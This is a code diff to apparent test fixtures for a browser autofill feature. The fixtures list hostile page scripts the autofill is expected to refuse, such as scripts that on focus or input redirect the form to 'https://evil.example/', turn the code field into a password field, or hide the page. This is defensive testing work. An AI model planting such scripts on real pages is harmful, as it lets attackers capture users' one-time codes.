@@ -4,7 +4,6 @@ import type { FillErrorCode } from '../../src/autofill/errors';
 export interface Scene {
   html: string;
   script?: string;
-  springsAtFocus?: boolean;
 }
 
 const field = '<input id="code" name="otp" autocomplete="one-time-code" inputmode="numeric" maxlength="6">';
@@ -91,21 +90,23 @@ export const attacks: Record<string, Scene & { refusal: FillErrorCode }> = {
   },
   'another address once the field has the focus': {
     html: form(field),
-    springsAtFocus: true,
     script: `document.getElementById('code').addEventListener('focus', (event) => { event.target.form.action = 'https://evil.example/'; });`,
     refusal: 'field-changed',
   },
   'another type once the field has the focus': {
     html: form(field),
-    springsAtFocus: true,
     script: `document.getElementById('code').addEventListener('focus', (event) => { event.target.type = 'password'; });`,
     refusal: 'field-changed',
   },
   'invisible once the field has the focus': {
     html: form(field),
-    springsAtFocus: true,
     script: `document.getElementById('code').addEventListener('focus', () => { document.documentElement.style.opacity = '0'; });`,
     refusal: 'field-disguised',
+  },
+  'another address once a code is in the field': {
+    html: form(field),
+    script: `document.getElementById('code').addEventListener('input', (event) => { event.target.form.action = 'https://evil.example/'; });`,
+    refusal: 'form-goes-elsewhere',
   },
   'fifty fields': { html: Array.from({ length: 50 }, () => form(field)).join(''), refusal: 'too-many-fields' },
   'a frame without an address': {
